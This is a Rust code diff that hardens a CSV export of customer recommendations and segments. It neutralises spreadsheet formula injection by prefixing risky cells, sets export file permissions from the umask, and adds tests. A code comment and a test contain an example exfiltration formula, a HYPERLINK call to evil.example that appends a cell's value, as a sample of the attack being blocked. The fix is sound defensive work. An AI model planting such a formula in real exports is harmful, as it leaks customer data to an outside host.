@@ -56,16 +56,42 @@ fn writer(out: &Path) -> anyhow::Result<csv::Writer<tempfile::NamedTempFile>> {
     Ok(csv::Writer::from_writer(file))
 }
 
-/// Moves the whole export into place, readable as the file it replaces was (a temporary file is
-/// the owner's alone; a CRM job running as another user must still read the export).
+/// Text from uploads as a spreadsheet shows it, never as a formula: a cell starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice for CSV injection). A
+/// customer id or description such as `=HYPERLINK("http://evil.example/?"&A2, "…")` in a shop's
+/// export would otherwise run when a marketing user opens the file in Excel.
+fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The mode a new file gets here: `0o666` less the process's umask (read from `/proc`, which
+/// changes nothing; `0o022` where there is none).
+#[cfg(unix)]
+fn new_file_mode() -> u32 {
+    let umask = std::fs::read_to_string("/proc/self/status").ok().and_then(|status| {
+        let line = status.lines().find(|l| l.starts_with("Umask:"))?;
+        u32::from_str_radix(line.trim_start_matches("Umask:").trim(), 8).ok()
+    });
+    0o666 & !umask.unwrap_or(0o022)
+}
+
+/// Moves the whole export into place, readable as the file it replaces was, or as a new file is
+/// under the umask (a temporary file is the owner's alone; a CRM job running as another user must
+/// still read the export, and a umask of `077` keeps customers' spend to the owner).
 fn finish(csv: csv::Writer<tempfile::NamedTempFile>, out: &Path) -> anyhow::Result<()> {
     let file =
         csv.into_inner().map_err(|e| anyhow::anyhow!("cannot write {}: {}", out.display(), e.error()))?;
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
-        let permissions = std::fs::metadata(out)
-            .map_or_else(|_| std::fs::Permissions::from_mode(0o644), |existing| existing.permissions());
+        let permissions = std::fs::metadata(out).map_or_else(
+            |_| std::fs::Permissions::from_mode(new_file_mode()),
+            |existing| existing.permissions(),
+        );
         file.as_file()
             .set_permissions(permissions)
             .with_context(|| format!("cannot write {}", out.display()))?;
@@ -109,10 +135,10 @@ pub async fn recommendations(
         let reason = answer.fallback_reason.unwrap_or_default();
         for (rank, item) in answer.items.iter().enumerate() {
             csv.write_record([
-                customer.as_str(),
+                as_text(customer).as_ref(),
                 &(rank + 1).to_string(),
-                &item.sku,
-                item.description.as_deref().unwrap_or(""),
+                as_text(&item.sku).as_ref(),
+                as_text(item.description.as_deref().unwrap_or("")).as_ref(),
                 &format!("{:.6}", item.score),
                 &item.source,
                 &reason,
@@ -179,10 +205,10 @@ pub async fn segments(state: &AppState, out: &Path) -> anyhow::Result<(String, u
         let Some(segment) = segment? else { continue };
         let [r, f, m] = segment.rfm_scores;
         csv.write_record([
-            customer.as_str(),
+            as_text(customer).as_ref(),
             &segment.segment.to_string(),
-            &segment.label,
-            segment.customer_label(),
+            as_text(&segment.label).as_ref(),
+            as_text(segment.customer_label()).as_ref(),
             &segment.recency_days.to_string(),
             &segment.frequency.to_string(),
             &format!("{:.2}", segment.monetary),
@@ -199,4 +225,27 @@ pub async fn segments(state: &AppState, out: &Path) -> anyhow::Result<(String, u
         bar.finish_and_clear();
     }
     Ok((version, written))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() {
+        for formula in ["=HYPERLINK(\"http://evil.example\")", "+1", "-1+1", "@SUM(1)", "\tx", "\rx"] {
+            assert_eq!(as_text(formula), format!("'{formula}"));
+        }
+        for plain in ["17850", "85123A", "WHITE HANGING HEART", "", "a=b"] {
+            assert_eq!(as_text(plain), plain);
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_new_export_is_readable_as_the_umask_allows() {
+        let mode = new_file_mode();
+        assert_eq!(mode & !0o666, 0, "no execute bits: {mode:o}");
+        assert_ne!(mode & 0o600, 0, "the owner reads and writes: {mode:o}");
+    }
 }
